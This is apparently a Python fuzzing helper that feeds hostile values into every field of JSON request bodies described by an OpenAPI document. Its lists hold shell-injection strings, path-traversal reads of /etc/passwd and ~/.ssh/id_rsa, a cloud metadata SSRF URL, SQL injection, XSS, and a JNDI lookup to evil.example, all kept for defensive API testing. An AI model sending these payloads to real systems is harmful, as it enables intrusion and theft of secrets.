"""Hostile values for any field of a request: a hundred and some, none of them from good faith.

`bodies_of` puts each into each field of each body that the OpenAPI document describes.
"""

from __future__ import annotations

import json
from collections.abc import Iterator, Mapping
from typing import Any

SHELL = ["; ls /", "$(id)", "`id`", "| cat /etc/passwd", "&& sleep 9", "%0aid", "\r\nX-Injected: 1"]
PATHS = ["../../../../etc/passwd", "/etc/passwd", "..\\..\\win.ini", "file:///etc/passwd",
         "/proc/self/environ", "\x00/etc/passwd", "....//....//etc/passwd", "~/.ssh/id_rsa",
         "http://169.254.169.254/latest/meta-data/", "C:\\boot.ini", "shop.csv",
         "sample:cars"]  # fmt: skip
SQL = [
    "' OR '1'='1", "'; DROP TABLE shop; --", "1 UNION SELECT * FROM duckdb_settings()",
    "price > 0 OR (SELECT count(*) FROM read_csv('/etc/passwd')) > 0", "1=1", "1; ATTACH 'x'",
    "getenv('HOME') = 'x'", "price > (SELECT max(margin) FROM shop)", "margin > 0", '"margin" > 0',
    "concede_items.margin > 0", "shop.margin > 0", "COLUMNS(*) > 0", "struct_pack(a := margin) > 0",
    "row_id = 1", "price / 0 > 1", "price = 1e400", "CASE WHEN margin > 1 THEN TRUE END",
    "price IN (SELECT margin)", "regexp_matches(name, '(a+)+$')", "repeat('a', 1000000000) = name",
    "(((((((((((price)))))))))) > 1", "NOT NOT NOT price > 1", "price BETWEEN 2 AND",
    "/* */ price > 1 --", "price > 1\x00", "name LIKE '%' || margin", "EXISTS (SELECT 1)",
]  # fmt: skip
TEXTS = [
    "", " ", "\t\n", "a" * 200, "a" * 5_000, "0", "-1", "true", "null", "NaN", "Infinity", "é", "ﬁ",
    "\u202eevil", "\ufeff", "\u0000", "\x7f", "\x1b[31m", "💥" * 50, "İ", "ß", "Ω" * 300, "{}",
    "[]",
    "{{7*7}}", "${jndi:ldap://evil.example/a}", "%s%s%s%n", "%00", "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>", "__proto__", "constructor", "__class__", "margin", "MARGIN",
    "shop", "price", "-price", "price desc", "price\u0000desc", "--price", " desc", "(", "\\",
    "'", '"',
    *SHELL, *PATHS, *SQL,
]  # fmt: skip
NUMBERS = [0, -1, 1, 2**31, 2**53 + 1, 2**63, -(2**63) - 1, 2**64, 2**127, 10**40, 0.5, -0.0, 1e308,
           5e-324, 99_999_999]  # fmt: skip
OTHERS: list[Any] = [
    None, True, False, [], {}, [[]], [None], [{}], {"": None}, [""], ["price", "price"], [0], [-1],
    ["margin"], {"margin": 1}, {"price": None}, {"price": {"$gt": 0}}, {"$where": "1"},
    [["a"] * 50],
    {"__proto__": {"admin": True}}, ["x"] * 2_000, {str(n): n for n in range(200)},
    {"column": "margin", "op": ">", "value": 0}, [{"column": "margin", "op": ">=", "value": 0}],
    [{"column": "price", "op": "sql", "value": "margin > 0"}],
    [{"op": "sql", "value": "margin > 0"}], [{"column": "price", "direction": "max"}] * 70,
    [{"column": "margin", "direction": "max"}], {"a": {"b": {"c": {"d": {"e": [[[[]]]]}}}}},
]  # fmt: skip
VALUES: list[Any] = [*TEXTS, *NUMBERS, *OTHERS]

ODD_JSON = [b"NaN", b"Infinity", b"-Infinity", b"1e999", b"0" * 3 + b"1", b"'a'", b"\xff",
            b"[" * 300,
            b'"\\ud800"', b"1" * 5_000, b"tru", b"{]", b'{"a":1,"a":2}', b"\x00"]  # fmt: skip
"""Values that no JSON library writes, as bytes."""


def bodies_of(fields: Mapping[str, Any], good: Mapping[str, Any]) -> Iterator[tuple[str, bytes]]:
    """Yield, for each field of a body, good bodies with a hostile value there; and its name."""
    for field in (*fields, "unknown_field"):
        for value in VALUES:
            yield field, json.dumps({**good, field: value}).encode()
        rest = json.dumps({name: value for name, value in good.items() if name != field})[1:-1]
        for odd in ODD_JSON:
            told = b"," + rest.encode() if rest else b""
            yield field, b'{"%s":%s%s}' % (field.encode(), odd, told)
